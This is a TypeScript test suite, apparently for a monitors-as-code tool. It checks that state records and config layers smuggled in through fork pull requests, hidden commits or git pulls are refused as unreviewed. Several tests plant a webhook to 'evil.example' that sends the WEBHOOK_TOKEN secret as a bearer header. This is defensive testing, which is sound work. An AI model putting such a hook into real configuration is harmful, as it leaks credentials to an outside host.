import type {RecordedMonitor, State} from '../../src/core/state/state';
import {bareSpecFor, specFor} from '../world/cli';
import {startAppliedWorld} from '../world/copied-world';
import {editState} from '../world/edited-state';
import {createForeign, recordForeign} from '../world/foreign-monitor';
import {commitAside, git, pullInto} from '../world/hosted-repository';
import type {MergeWorld} from '../world/merge-world';

/** What other sides of merges that no pull request made brought: after `git pull` on a branch with a commit of its own, or of `develop`. */
let world: MergeWorld;
afterEach(() => world.close());

const STATE = 'monitors.state.json';
const CONFIG = 'project: acme-web\nsecrets: {allow: [WEBHOOK_TOKEN]}\nservice: {operations: full}\n';
const FILES = {'monitors.config.yaml': CONFIG, 'monitors/a.yaml': specFor('a'), 'monitors/b.yaml': specFor('b')};
const HOOK = (host: string) => `webhook: {url: "https://${host}.example/in", headers: {Authorization: "Bearer \${env:WEBHOOK_TOKEN}"}}\n`;
const APPLY = {env: {WEBHOOK_TOKEN: 'tok-0123456789abcdef'}};
const UNREVIEWED = {exitCode: 3, outputs: {'failure-reason': 'plan-changed'}};

/** A state with a record of a monitor that is not this project's. */
async function writeGhost(changes: Partial<State> = {}): Promise<string> {
  world = await startAppliedWorld(FILES, {operations: 'full'});
  const foreign = await createForeign(world.emulator.url);
  return editState(world.repository.readFile('main', STATE) ?? '', monitors => {
    monitors.set('ghost', recordForeign(monitors.get('a') as RecordedMonitor, foreign));
    return changes;
  });
}

function mergeFork(branch: string, files: Readonly<Record<string, string | null>>): string {
  const sha = world.repository.commit(branch, files);
  world.github.linkCommit(sha, {number: 7, base: branch, headSha: sha, mergeCommitSha: sha, merged: true, isFork: true});
  return sha;
}

const isForeignKept = () => expect(world.monitors()).toContain('victim');

test.each([true, false])('S127: a record that a fork brought, taken by git pull; its own run came before: %s', async isRun => {
  const ghost = await writeGhost();
  const own = commitAside(world.repository, {'README.md': 'Mine\n'});
  const sha = mergeFork('main', {[STATE]: ghost, 'monitors/ghost.yaml': specFor('ghost')});
  if (isRun) expect((await world.apply({sha})).stdout).toContain('"ghost" waits');
  for (const sha of [pullInto(world.repository, own), world.repository.commit('main', {'monitors/ghost.yaml': null})]) {
    expect(await world.apply({sha})).toMatchObject({exitCode: 1, stdout: expect.stringContaining('"ghost" waits')});
    isForeignKept();
  }
});

test('S127: a first state that a fork brought, taken by git pull', async () => {
  const ghost = await writeGhost({project: 'acme-two', lineage: '99999999-9999-4999-8999-999999999999'});
  const own = commitAside(world.repository, {'README.md': 'Mine\n'});
  mergeFork('main', {
    'monitors.config.yaml': `${CONFIG.replace('acme-web', 'acme-two')}state: new.json\n`,
    [STATE]: null,
    'new.json': ghost,
  });
  expect((await world.apply({sha: pullInto(world.repository, own)})).stdout).toContain('"ghost" waits');
  isForeignKept();
});

test.each([
  {name: 'a layer', own: bareSpecFor('site'), hidden: {'monitors/new/_defaults.yaml': HOOK('evil')}},
  {name: 'a variable', own: bareSpecFor('site') + HOOK('${var:HOST}'), hidden: {'monitors.config.yaml': `${CONFIG}vars: {HOST: evil}\n`}},
])('S127: $name that a pull request hid, taken by git pull', async ({own: spec, hidden}) => {
  world = await startAppliedWorld(FILES, {operations: 'full'});
  const own = commitAside(world.repository, {'monitors/new/site.yaml': spec});
  const pull = await world.openPullRequest({'README.md': 'Hello\n'});
  world.repository.commit(pull.branch, hidden);
  world.mergePullRequest(pull);
  expect(await world.apply({sha: pullInto(world.repository, own)}, APPLY)).toMatchObject(UNREVIEWED);
  expect(world.monitors()).toEqual(['a', 'b']);
});

test.each(['a record', 'a layer'])('S127: %s, taken by a git pull that comes 60 commits later', async what => {
  const ghost = await writeGhost();
  const own = commitAside(world.repository, {'monitors/new/site.yaml': bareSpecFor('site')});
  if (what === 'a record') mergeFork('main', {[STATE]: ghost, 'monitors/ghost.yaml': specFor('ghost')});
  else {
    const pull = await world.openPullRequest({'README.md': 'Hello\n'});
    world.repository.commit(pull.branch, {'monitors/new/_defaults.yaml': HOOK('evil')});
    world.mergePullRequest(pull);
  }
  for (let more = 0; more < 60; more++) world.repository.commit('main', {'NEWS.md': `${more}`});
  const run = await world.apply({sha: pullInto(world.repository, own)}, APPLY);
  if (what === 'a record') expect(run.stdout).toContain('"ghost" waits');
  else expect(run).toMatchObject(UNREVIEWED);
  isForeignKept();
});

test('S127: a layer that a pull request hid, taken by git pull, and moved by a push', async () => {
  world = await startAppliedWorld(FILES, {operations: 'full'});
  const own = commitAside(world.repository, {'README.md': 'Mine\n'});
  const pull = await world.openPullRequest({'README.md': 'Hello\n'});
  world.repository.commit(pull.branch, {'monitors/old/_defaults.yaml': HOOK('evil'), 'README.md': null});
  world.mergePullRequest(pull);
  pullInto(world.repository, own);
  const moved = {'monitors/old/_defaults.yaml': null, 'monitors/new/_defaults.yaml': HOOK('evil')};
  const sha = world.repository.commit('main', {...moved, 'monitors/new/site.yaml': bareSpecFor('site')});
  expect(await world.apply({sha}, APPLY)).toMatchObject(UNREVIEWED);
  expect(world.monitors()).toEqual(['a', 'b']);
});

test("S128: a fork's pull request into develop that holds recordings of main is no fork's", async () => {
  world = await startAppliedWorld(FILES, {operations: 'full'});
  git(world.repository.remote, 'branch', 'develop', 'main~1');
  expect((await world.apply({sha: world.repository.commit('main', {'monitors/c.yaml': specFor('c')})})).exitCode).toBe(0);
  const [headSha, mergeCommitSha] = ['f'.repeat(40), 'e'.repeat(40)];
  for (const commit of git(world.repository.remote, 'rev-list', '-n2', 'main').split('\n'))
    world.github.linkCommit(commit, {number: 70, base: 'develop', headSha, mergeCommitSha, merged: true, isFork: true});
  const sha = world.repository.commit('main', {'monitors/c.yaml': `${specFor('c')}goal: Tell\n`});
  expect(await world.apply({sha})).toMatchObject({exitCode: 0});
});

test('what a reviewed pull request made goes through', async () => {
  world = await startAppliedWorld(FILES, {operations: 'full'});
  const own = commitAside(world.repository, {'monitors/c.yaml': specFor('c')});
  world.mergePullRequest(await world.openPullRequest({'monitors/d.yaml': specFor('d'), 'monitors/a.yaml': `${specFor('a')}goal: Tell\n`}));
  expect(await world.apply({sha: pullInto(world.repository, own)})).toMatchObject({exitCode: 0});
  expect(world.monitors()).toEqual(['a', 'b', 'c', 'd']);
});

test.each(['a merge', 'a fast-forward'])('S128: a fork brought a record to develop, which main takes by %s', async how => {
  const ghost = await writeGhost();
  const {remote} = world.repository;
  const base = world.repository.tipOf('main');
  const sha = mergeFork('develop', {[STATE]: ghost, 'monitors/ghost.yaml': specFor('ghost')});
  const merge = () => git(remote, 'commit-tree', `${sha}^{tree}`, '-p', base, '-p', sha, '-m', "Merge branch 'develop'");
  const tip = how === 'a merge' ? merge() : sha;
  git(remote, 'update-ref', 'refs/heads/main', tip);
  expect(await world.apply({sha: tip})).toMatchObject({exitCode: 1, stdout: expect.stringContaining('"ghost" waits')});
  isForeignKept();
});

test('S131: a record of a first state that a fork brought, under a dozen pushes of the state', async () => {
  const ghost = await writeGhost({project: 'acme-two', lineage: '99999999-9999-4999-8999-999999999999'});
  mergeFork('main', {
    'monitors.config.yaml': `${CONFIG.replace('acme-web', 'acme-two')}state: new.json\n`,
    [STATE]: null,
    'new.json': ghost,
  });
  for (let more = 0; more < 12; more++) {
    const state = editState(world.repository.readFile('main', 'new.json') ?? '', () => ({}));
    world.repository.commit('main', {'new.json': state, 'README.md': `${more}`});
  }
  const sha = world.repository.commit('main', {'README.md': 'Hello\n'});
  expect((await world.apply({sha})).stdout).toContain('"ghost" waits');
  isForeignKept();
});

test.each(['ghost', 'other'])('S135: a fork brings a project, and a person moves its folder; the spec of %s stands', async spec => {
  const ghost = await writeGhost({project: 'beta', lineage: '99999999-9999-4999-8999-999999999999'});
  const filesIn = (folder: string) => ({
    [`${folder}/monitors.config.yaml`]: CONFIG.replace('acme-web', 'beta'),
    [`${folder}/${STATE}`]: editState(ghost, monitors => {
      for (const key of [...monitors.keys()]) if (key !== 'ghost') monitors.delete(key);
      return {};
    }),
    [`${folder}/monitors/${spec}.yaml`]: specFor(spec),
  });
  mergeFork('main', filesIn('contrib/beta'));
  const gone = Object.fromEntries(Object.keys(filesIn('contrib/beta')).map(name => [name, null]));
  const sha = world.repository.commit('main', {...gone, ...filesIn('beta')});
  expect((await world.apply({sha}, {inputs: {'working-directory': 'beta'}})).stdout).toContain('"ghost" waits');
  isForeignKept();
});

test('S127: a record that a fork brought, taken by git pull into a state that was moved there', async () => {
  const ghost = await writeGhost();
  const state = world.repository.readFile('main', STATE) ?? '';
  const moved = {[STATE]: null, 'team.state.json': state, 'monitors.config.yaml': `${CONFIG}state: team.state.json\n`};
  const own = commitAside(world.repository, moved);
  mergeFork('main', {[STATE]: ghost, 'monitors/ghost.yaml': specFor('ghost')});
  expect((await world.apply({sha: pullInto(world.repository, own)})).stdout).toContain('"ghost" waits');
  isForeignKept();
});

test('S127: a layer that a pull request changed unseen, taken by git pull into a folder that was moved there', async () => {
  const layer = '# Of all shops.\n# Ask the web team.\n# See the wiki.\nschedule: {timezone: UTC}\n';
  const spec = `${bareSpecFor('c')}webhook: {url: "https://own.example/in"}\n`;
  world = await startAppliedWorld({...FILES, 'monitors/shops/_defaults.yaml': layer, 'monitors/shops/c.yaml': spec}, {operations: 'full'});
  const gone = {'monitors/shops/_defaults.yaml': null, 'monitors/shops/c.yaml': null};
  const there = {
    'monitors/stores/_defaults.yaml': layer,
    'monitors/stores/c.yaml': spec,
    'monitors/stores/site.yaml': bareSpecFor('site'),
  };
  const own = commitAside(world.repository, {...gone, ...there});
  const pull = await world.openPullRequest({'README.md': 'Hello\n'});
  world.repository.commit(pull.branch, {'monitors/shops/_defaults.yaml': `${layer}webhook: {url: "https://evil.example/in"}\n`});
  world.mergePullRequest(pull);
  expect(await world.apply({sha: pullInto(world.repository, own)}, APPLY)).toMatchObject(UNREVIEWED);
});
